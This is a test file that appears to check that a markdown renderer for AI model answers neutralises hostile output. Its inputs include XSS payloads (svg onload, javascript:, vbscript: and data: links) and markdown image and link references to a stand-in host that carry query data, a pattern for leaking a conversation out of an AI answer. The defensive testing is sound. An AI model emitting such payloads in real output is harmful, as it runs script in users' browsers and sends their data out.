// The catalogue cases of SECURITY.md that markdown.test.ts does not spell out: `<svg onload>`
// and reference-style links and images in model output.

import { describe, expect, it } from "vitest";
import { renderAnswer } from "./markdown";

function dom(markdown: string): HTMLElement {
  const el = document.createElement("div");
  el.innerHTML = renderAnswer(markdown, 2);
  return el;
}

function expectInert(el: HTMLElement): void {
  expect(el.querySelector("script, img, iframe, object, embed, style, link, svg, form, math")).toBeNull();
  for (const node of Array.from(el.querySelectorAll("*"))) {
    const names = node.getAttributeNames();
    expect(names.filter((n) => n.startsWith("on") || n === "src" || n === "style")).toEqual([]);
  }
  for (const a of Array.from(el.querySelectorAll("a"))) {
    expect(a.getAttribute("href")).toBe("#");
    expect(a.getAttribute("data-href")).toMatch(/^https:\/\//);
  }
}

describe("renderAnswer: more hostile model output", () => {
  it("escapes svg and math with handlers into text", () => {
    const el = dom('<svg onload="alert(1)"><circle r="9"/></svg>\n\nand <math><mi xlink:href="javascript:alert(2)">x</mi></math>');
    expectInert(el);
    expect(el.textContent).toContain('<svg onload="alert(1)">');
  });

  // Reference definitions are off (they would turn citation markers into links), so every
  // reference-style link or image stays text (definitions included): nothing is loaded and
  // nothing is clickable.
  it("never loads a reference-style image", () => {
    const el = dom("Here: ![chart][img] and ![][img]\n\n[img]: https://evil.example/?d=the%20question");
    expectInert(el);
    expect(el.textContent).toContain("![chart][img]");
  });

  it("makes reference-style links of any scheme plain text", () => {
    const el = dom(
      "[one][a] [two][b] [three][c] [four] [five][e]\n\n[a]: javascript:alert(1)\n[b]: file:///etc/passwd\n[c]: data:text/html,x\n[four]: vbscript:msgbox\n[e]: https://evil.example/?d=x",
    );
    expectInert(el);
    expect(el.querySelectorAll("a")).toHaveLength(0);
    expect(el.textContent).toContain("[one][a] [two][b] [three][c] [four] [five][e]");
  });

  it("does not autolink bare hosts into live links", () => {
    const el = dom("Visit www.evil.example or evil.example/x?d=secret now.");
    expectInert(el);
    expect(el.querySelectorAll("a")).toHaveLength(0);
  });
});
